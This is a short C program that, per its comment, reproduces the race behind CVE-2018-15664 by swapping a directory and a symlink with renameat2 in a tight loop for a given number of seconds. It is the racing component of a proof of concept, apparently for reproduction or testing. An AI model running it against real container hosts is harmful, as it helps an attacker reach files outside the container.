// CVE-2018-15664's race: exchange two paths (a directory and a symlink) with
// renameat2(RENAME_EXCHANGE) as fast as possible, for SECONDS.
// Usage: swap A B SECONDS
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

int main(int argc, char **argv) {
	if (argc != 4) {
		fprintf(stderr, "usage: swap A B SECONDS\n");
		return 2;
	}
	time_t end = time(NULL) + atoi(argv[3]);
	unsigned long n = 0;
	while (time(NULL) < end) {
		for (int i = 0; i < 1000; i++)
			if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) n++;
	}
	printf("swapped %lu times\n", n);
	return 0;
}
